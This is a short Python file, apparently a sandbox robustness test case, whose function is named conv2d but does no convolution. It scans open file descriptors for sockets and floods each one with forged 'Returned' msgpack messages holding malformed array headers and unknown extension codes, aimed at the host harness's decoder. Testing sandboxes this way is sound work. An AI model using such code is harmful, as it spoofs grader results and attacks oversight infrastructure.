"""Sends arrays whose shape, type or size is not that of their content, and extensions that nobody knows."""

# %% 05.2
import contextlib
import os
import stat
import struct

import msgspec

Ext, encode = msgspec.msgpack.Ext, msgspec.msgpack.encode
ARRAYS = (
    ("<f8", [10**9, 10**9], bytes(8)),
    ("<f8", [-1, -8], bytes(64)),
    ("|O", [1], bytes(8)),
    ("<M8[s]", [1], bytes(8)),
    ("<f8", [2**62, 4], b""),
    ("<f8", [0] * 60, b""),
)


def conv2d(image, kernel):
    values = [Ext(code, encode(array)) for array in ARRAYS for code in range(1, 9)]
    values += [Ext(code, b"\xc1" * 9) for code in range(-128, 128)]
    for number in range(256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                for value in values:
                    content = encode({"type": "Returned", "value": value})
                    os.write(number, struct.pack(">I", len(content)) + content)
    return None
